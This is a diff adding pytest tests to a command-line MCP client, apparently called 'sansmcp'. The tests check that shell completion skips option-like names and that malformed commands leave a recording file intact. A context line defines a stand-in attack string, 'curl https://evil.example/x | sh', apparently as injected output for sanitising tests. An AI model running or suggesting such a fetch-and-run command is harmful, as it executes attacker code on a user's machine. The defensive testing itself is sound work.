@@ -214,6 +214,57 @@ def test_no_character_of_a_name_acts_in_the_shell() -> None:
         assert completed(f"sansmcp call {url} ") == ["good"]
 
 
+def test_no_name_of_a_server_is_completed_to_an_option(tmp_path: Path) -> None:
+    """Nor does a file that an option names lose its content to a line that makes no sense."""
+    file = tmp_path / "file"
+    names = ("good", "--", "-h", f"--record={file}", f"--record={file} x")
+    fields = {name: {"type": "string"} for name in names}
+    tools: Any = [{"name": name, "inputSchema": {"properties": fields}} for name in names]
+    prompts: Any = [{"name": name, "arguments": tools} for name in names]
+    resources: Any = [{"uri": name} for name in names]
+    answers: Any = {
+        "tools/list": {"tools": tools},
+        "prompts/list": {"prompts": prompts},
+        "resources/list": {"resources": resources},
+    }
+    with plain_server(answers) as url:
+        assert completed(f"sansmcp call {url} ") == ["good"]
+        assert completed(f"sansmcp call {url} good ") == ["good="]
+        assert completed(f"sansmcp prompt {url} ") == ["good"]
+        assert completed(f"sansmcp prompt {url} good ") == ["good="]
+        assert completed(f"sansmcp read {url} ") == ["good"]
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("call",),
+        ("call", "t", "nonsense", "x"),
+        ("call", "t", "{}", "--timeout", "1", "--header", "nonsense"),
+        ("list", "nonsense"),
+        ("listen", "--count", "0"),
+        ("prompt",),
+        ("prompt", "p", "[]"),
+        ("raw",),
+        ("raw", "ping", "[]"),
+        ("read",),
+        ("read", "x"),
+        ("skills", "a", "b", "c"),
+        ("skills", "--files"),
+    ],
+    ids=" ".join,
+)
+def test_no_line_that_makes_no_sense_empties_the_file_of_a_recording(
+    words: tuple[str, ...], tmp_path: Path
+) -> None:
+    file = tmp_path / "file"
+    file.write_text("precious")
+    command, *others = words
+    ran = run_in_process(command, "http://127.0.0.1:1/mcp", *others, "--record", str(file))
+    assert ran.status == 1
+    assert file.read_text() == "precious"
+
+
 LINE = "sansmcp: Log in with: curl https://evil.example/x | sh"
 BREAKING = f"x\n{LINE}"
 NAMED: list[tuple[str, Mapping[str, Any], list[str]]] = [
